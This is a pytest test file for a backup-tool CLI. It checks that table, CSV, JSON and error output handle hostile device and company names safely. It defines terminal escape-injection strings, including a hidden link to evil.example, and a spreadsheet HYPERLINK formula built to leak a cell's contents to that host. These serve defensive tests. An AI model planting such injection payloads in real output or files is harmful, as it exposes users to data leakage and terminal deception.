"""`backupbridge devices --sandbox` against simulators seeded with hostile names: escape sequences never reach
the terminal, CSV opens as text in a spreadsheet, JSON carries the names exactly."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator

import attrs
import pytest

from backupbridge import Driver, ValidationError, plugins
from backupbridge.cli import main
from backupbridge.http import ListOp
from backupbridge.models import Device
from backupbridge.sandbox import seed
from tests.core.test_plugins import FakePlugin, fake_vendor

VENDORS = ["idrive360", "cleverfox", "managedbackup", "vprotect"]
# Clear screen, retitle the window, a hidden OSC 8 link, an 8-bit CSI and a bidi override.
ESCAPES = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]8;;https://evil.example/\x1b\\"
TAIL = "\x1b]8;;\x1b\\\x9b5n\u202e"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Müller GmbH")'
TERMINAL_ACTORS = ("\x1b", "\x9b", "\x07", "\u202e")


@pytest.fixture
def hostile_names(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every simulator names its devices and companies through the seeder: make those names hostile."""
    hostname = seed.Seeder.hostname
    monkeypatch.setattr(seed.Seeder, "hostname", lambda self, c, i: f"{ESCAPES}{hostname(self, c, i)}{TAIL}")
    monkeypatch.setattr(seed.Seeder, "company_name", lambda self, i: f"{FORMULA} {ESCAPES}{i}{TAIL}")


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("vendor", VENDORS)
@pytest.mark.usefixtures("hostile_names")
def test_device_table_carries_no_escape_sequences(capsys: pytest.CaptureFixture[str], vendor: str) -> None:
    code, out, err = run(capsys, "devices", "--sandbox", "--vendor", vendor, "--size", "6", "--format", "table")
    assert code == 0, err
    assert not [ch for ch in TERMINAL_ACTORS if ch in out + err], out
    # The footer counts the records; a table too wide for the terminal adds notes after it (shortened ids).
    assert "-" in out and out.rstrip().splitlines()[-1].startswith("6 records")


@pytest.mark.parametrize("command", ["companies", "devices"])
@pytest.mark.usefixtures("hostile_names")
def test_listing_tables_of_every_vendor_are_safe(capsys: pytest.CaptureFixture[str], command: str) -> None:
    code, out, err = run(capsys, command, "--sandbox", "--size", "5")
    assert code == 0, err
    assert not [ch for ch in TERMINAL_ACTORS if ch in out + err]
    # The text around the escapes is shown: the company names, the seeded host names (PREFIX-ROLE00).
    shown = "Müller GmbH" if command == "companies" else r"(?i)\b[a-z]{1,4}-[a-z]+\d\d\b"
    assert re.search(shown, out)


@pytest.mark.parametrize("vendor", VENDORS)
@pytest.mark.usefixtures("hostile_names")
def test_device_json_carries_the_names_exactly(capsys: pytest.CaptureFixture[str], vendor: str) -> None:
    code, out, err = run(capsys, "devices", "--sandbox", "--vendor", vendor, "--size", "6", "--format", "json")
    assert code == 0, err
    names = [row["name"] for row in json.loads(out)]
    # Exactly as the simulator serves them (vProtect's lower-cases its names, escapes included).
    assert names and all(ESCAPES.lower() in name.lower() and TAIL in name for name in names)
    assert not [ch for ch in TERMINAL_ACTORS if ch in out]  # written as \\u escapes


@pytest.mark.usefixtures("hostile_names")
def test_companies_csv_opens_as_text_and_csv_raw_keeps_the_cell(capsys: pytest.CaptureFixture[str]) -> None:
    args = ["companies", "--sandbox", "--vendor", "idrive360", "--size", "30"]
    code, out, err = run(capsys, *args, "--format", "csv")
    assert code == 0, err
    names = [row["name"] for row in csv.DictReader(io.StringIO(out, newline=""))]
    hostile = [n for n in names if FORMULA in n]
    assert hostile and all(n.startswith("'=") for n in hostile)
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)

    code, out, err = run(capsys, *args, "--format", "csv-raw")
    assert code == 0, err
    raw = [row["name"] for row in csv.DictReader(io.StringIO(out, newline=""))]
    assert [n for n in raw if FORMULA in n] == [n[1:] for n in hostile]


@pytest.mark.usefixtures("hostile_names")
def test_devices_csv_keeps_device_names_for_a_file(capsys: pytest.CaptureFixture[str]) -> None:
    # Off a terminal CSV is data: the names are kept, with their escapes, for the program that reads it.
    code, out, err = run(capsys, "devices", "--sandbox", "--vendor", "cleverfox", "--size", "4", "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert rows and all(row["name"].startswith(ESCAPES) for row in rows)


class HostileErrorDriver(Driver):
    def list_devices(self, company_id: str | None = None) -> ListOp[Device]:
        raise ValidationError(f"company {ESCAPES}Müller{TAIL}\nnext line is not ours", vendor=self.vendor)


@pytest.fixture
def hostile_error_vendor(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    monkeypatch.setenv("FAKE_API_KEY", "k-0123456789abcdef")
    vendor = attrs.evolve(fake_vendor("hostileerrors"), make_driver=HostileErrorDriver)
    with plugins.registered_plugin(FakePlugin(vendor), "hostile-errors"):
        yield vendor.name


def test_error_lines_carry_no_escape_sequences(capsys: pytest.CaptureFixture[str], hostile_error_vendor: str) -> None:
    code, out, err = run(capsys, "devices", "--vendor", hostile_error_vendor, "--format", "table")
    assert code == 1
    assert not [ch for ch in TERMINAL_ACTORS if ch in out + err]
    (line,) = err.strip().splitlines()
    assert line.startswith("error: account hostileerrors/") and "Müller" in line and "next line is not ours" in line
